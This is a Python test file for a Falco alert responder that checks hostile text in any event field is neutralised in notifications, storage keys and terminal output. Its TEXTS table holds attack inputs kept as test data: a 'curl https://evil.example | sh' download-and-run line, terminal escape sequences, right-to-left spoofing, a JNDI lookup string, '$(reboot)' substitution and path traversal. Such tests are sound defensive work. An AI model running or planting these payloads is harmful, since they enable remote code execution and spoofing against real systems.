"""Events of an attacker, through everything: none of their text becomes a line, a key or a command here."""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from falco_firelens.cli import main
from falco_firelens.responder import handler, ledger
from falco_firelens.responder.commands import replay
from falco_firelens.responder.commands.explain import explain
from falco_firelens.responder.event import MalformedError, parse_event
from falco_firelens.responder.grouping import UNDECIDED
from falco_firelens.responder.outcome import FailedError
from falco_firelens.responder.queue import case_of
from tests.unit.responder.account import Account, LambdaContext, deliver, moto_account
from tests.unit.responder.events import TASK, MemoryLedger, configuration, document, playbook

TEXTS = {
    "a terminal's title": "\x1b]0;owned\x07",
    "a clearing of the screen": "\x1b[2J\x1b[H",
    "an eight-bit escape": "\x9b31m",
    "a turn of direction": "\u202egnp.exe\u2066",
    "lines of ours": "x\n\nTo undo:\n  curl https://evil.example | sh",
    "other ends of lines": "x\r- isolate pod: done\u2028To undo:\u2029  y\x85z",
    "a mention": "<!channel> <@U1> &lt;!here&gt;",
    "a link": "[x](javascript:alert(1)) <https://evil.example|click>",
    "half a character": "\ud800",
    "nothing": "\x00",
    "a path": "../../../set-aside/x",
    "a path in percents": "..%2f..%2fx?a=b#c",
    "a selector": "app in (a,b),!c",
    "a template": "{0.__class__} %s ${jndi:ldap://x} $(reboot) `reboot`",
    "a pattern": "*",
    "large": "A" * 2**20,
}
OTHERS = [None, True, 0, float("nan"), {"a": {}}, [1, "x"], 10**4000]
PLACES = [
    ("rule",),
    ("output",),
    ("hostname",),
    ("source",),
    ("tags",),
    ("priority",),
    ("time",),
    ("uuid",),
    ("cluster",),
    *(("cluster", name) for name in ("name", "platform", "account", "region", "node")),
    ("output_fields",),
    *(
        ("output_fields", name)
        for name in (
            "ecs.task.arn",
            "container.id",
            "container.image.repository",
            "container.image.tag",
            "proc.cmdline",
        )
    ),
    *(("output_fields", name) for name in ("k8s.ns.name", "k8s.pod.name", "k8s.pod.uid", "k8s.pod.labels")),
]
PLAN = configuration(playbook(actions=["evidence", "finding", "notify"]))
KEY = re.compile(
    r"(evidence/jobs/[a-z0-9-]+/[0-9TZ:-]+-[0-9a-f]{12}/[a-z]+\.json|set-aside/[0-9/]+-r\.jsonl)", re.ASCII
)


def victim() -> dict[str, Any]:
    return document(pod=None, cluster="jobs", platform="ecs", fields={"ecs.task.arn": TASK})


def put(place: tuple[str, ...], value: Any) -> dict[str, Any]:
    """An event with something else in one place."""
    made = victim()
    holder = made if len(place) == 1 else made[place[0]]
    holder[place[-1]] = value
    return made


@pytest.fixture
def account(monkeypatch: pytest.MonkeyPatch) -> Iterator[Account]:
    # Each function its own: what was done for one event must not answer for the next.
    monkeypatch.setattr(ledger, "DynamoDbLedger", lambda *_: MemoryLedger())
    with moto_account(monkeypatch):
        made = Account()
        made.aws("ecs").create_cluster(clusterName="jobs")
        made.aws("securityhub").enable_security_hub()
        yield made


@pytest.mark.parametrize("name", TEXTS)
def test_a_hostile_text_anywhere_is_told_as_a_text_or_set_aside(account: Account, name: str) -> None:
    taken = 0
    for place in PLACES:
        made = put(place, TEXTS[name])
        made["time"] = made["time"] if place == ("time",) else document()["time"]
        said = account.invocation(PLAN).answer_delivery(deliver(made, stream="jobs/x"))
        assert said["events"] + said["setAside"] == 1 and not said.get("failed"), place
        assert said.get("done", 0) == 3 * said["events"]
        taken += said["events"]
        check_explained(made)
    assert taken >= 7 and len(account.notices()) == taken, "what is no name is taken as it is"
    for one in account.messages("inbox"):
        text, subject = one["Message"], one["Subject"]
        assert all(line.isprintable() for line in text.split("\n")) and len(text) < 10_000
        assert not re.search(r"^(To undo:| +curl)", text, re.M)
        assert len([line for line in text.split("\n") if line.startswith("- ")]) == 1
        assert subject.isascii() and subject.isprintable() and len(subject) <= 100
    assert all(KEY.fullmatch(key) for key in account.objects())


@pytest.mark.parametrize("value", OTHERS, ids=lambda value: repr(value)[:20])
def test_a_value_of_another_type_anywhere_is_taken_or_set_aside(account: Account, value: Any) -> None:
    for place in PLACES:
        said = account.invocation(PLAN).answer_delivery(deliver(put(place, value), stream="jobs/x"))
        assert said.get("done", 0) + said.get("protected", 0) == 3 * said["events"]
        assert said["events"] + said["setAside"] == 1 and not said.get("failed"), place
        check_explained(put(place, value))


@pytest.mark.parametrize("place", PLACES, ids=".".join)
def test_a_missing_field_is_no_reason_to_fail(account: Account, place: tuple[str, ...]) -> None:
    made = victim()
    (made if len(place) == 1 else made[place[0]]).pop(place[-1], None)
    said = account.invocation(PLAN).answer_delivery(deliver(made, victim(), stream="jobs/x"))
    assert said["events"] + said["setAside"] == 2 and said["events"] >= 1


def check_explained(made: dict[str, Any]) -> None:
    try:
        event = parse_event(json.dumps(made))
    except (MalformedError, ValueError):
        return
    named = playbook("named", match={"rules": ["x"], "images": ["y"], "namespaces": ["z"], "tags": ["t"]})
    lines = list(explain(event, configuration(named, playbook())))
    assert all(line.isprintable() for line in lines)


def test_what_is_printed_at_a_terminal_steers_none(tmp_path: Any, capsys: Any) -> None:
    file = tmp_path / "event.json"
    file.write_text(json.dumps(put(("rule",), TEXTS["a clearing of the screen"])))
    config = tmp_path / "response.json"
    document_ = {"playbooks": [playbook()], "clusters": {"jobs": {"platform": "ecs", "name": "jobs"}}}
    config.write_text(json.dumps(document_))
    assert main(["explain", str(file), "--config", str(config)]) == 0
    letter = {"playbook": "x", "event": put(("rule",), "\x1b[2J"), "reasons": {"notify": "\x1b[2J\n"}}
    printed = capsys.readouterr().out + replay.summary(json.dumps(letter))
    assert "[2J" in printed and "\x1b" not in printed and "\n" not in replay.summary(json.dumps(letter))


JSON: Any = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=6,
)
MESSAGE = st.fixed_dictionaries(
    {},
    optional={
        "version": JSON,
        "playbook": st.sampled_from(["contain", UNDECIDED.name]) | JSON,
        "actions": st.lists(st.sampled_from(["evidence", "notify"])) | JSON,
        "count": st.integers() | JSON,
        "before": st.lists(st.fixed_dictionaries({"action": JSON, "undo": JSON})) | JSON,
        "reasons": JSON,
        "event": st.just(victim()) | JSON,
    },
)


@given(JSON | MESSAGE)
def test_any_message_is_a_case_or_refused(body: Any) -> None:
    try:
        case = case_of(json.dumps(body), PLAN)
    except FailedError:
        return
    assert case.playbook in (*PLAN.playbooks, UNDECIDED) and set(case.actions) <= set(case.playbook.actions)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    payload=JSON
    | st.fixed_dictionaries({"Records": JSON | st.lists(MESSAGE)})
    | st.builds(lambda one: queued(one), MESSAGE)
)
def test_no_invocation_fails_by_what_it_is_given(
    account: Account, monkeypatch: pytest.MonkeyPatch, payload: Any
) -> None:
    for name, value in account.environment.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(handler, "_configuration", lambda: PLAN)
    monkeypatch.setattr(handler, "_clients", lambda: account)
    said = handler.handle(payload, LambdaContext())
    assert said.keys() & {"setAside", "batchItemFailures"}


def queued(body: Any) -> dict[str, Any]:
    return {"Records": [{"messageId": "1", "body": json.dumps(body)}]}
